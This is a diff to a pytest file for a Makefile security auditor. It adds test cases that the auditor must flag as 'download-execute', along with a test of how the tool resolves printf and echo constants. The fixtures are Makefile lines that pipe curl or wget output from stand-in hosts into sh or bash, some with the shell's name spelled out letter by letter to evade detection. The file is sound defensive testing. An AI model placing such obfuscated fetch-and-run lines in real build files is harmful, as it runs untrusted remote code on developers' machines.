@@ -46,10 +46,32 @@ def test_parse_time_shell_in_make_expands_variables_and_functions() -> None:
         "P := $(firstword $(shell command -v curl wget))\n_p := $(shell $(P) -s https://x.example | sh)\n",
         "X = $(shell curl -s https://x.example/a.sh | bash)\nall:\n\t@echo $(X)\n",
         "ifeq ($(shell curl -s https://x.example/a | sh),)\nendif\n",
+        # the interpreter's name printed a letter at a time, the fetcher found on PATH
+        "F := $(firstword $(shell command -v curl wget 2>/dev/null))\n"
+        "R := $(shell printf '%s' s)$(shell printf '%s' h)\n"
+        "setup:\n\t@$(F) -fsSL https://probe.example/c | $(R)\n",
+        "R = $(shell echo ba)$(shell printf %s%s s h)\nsetup:\n\tcurl -s https://x.example/i | $(R)\n",
     ],
 )
 def test_make_fetch_and_run_at_parse_time_is_found(tmp_path: Path, makefile: str) -> None:
     assert "download-execute" in _audit(tmp_path, {"assets/Makefile.dev": makefile})
+
+
+@pytest.mark.parametrize(
+    ("command", "printed"),
+    [
+        ("printf '%s' s", "s"),
+        ("printf %s-%s a b", "a-b"),
+        ("echo -n ba", "ba"),
+        ("printf '%d' 4", ""),  # only %s is known
+        ("echo $$HOME", ""),  # not a constant
+        ("printf '%s %s' only-one", ""),
+        ("echo 'unbalanced", ""),
+    ],
+)
+def test_parse_time_printing_of_constants_is_known(command: str, printed: str) -> None:
+    text = f"X := $(shell {command})\nall:\n\t@run [$(X)]\n"
+    assert f"run [{printed}]" in [c for _, c in make_recipes(text)]
 
 
 def test_a_make_recipe_is_one_script(tmp_path: Path) -> None:
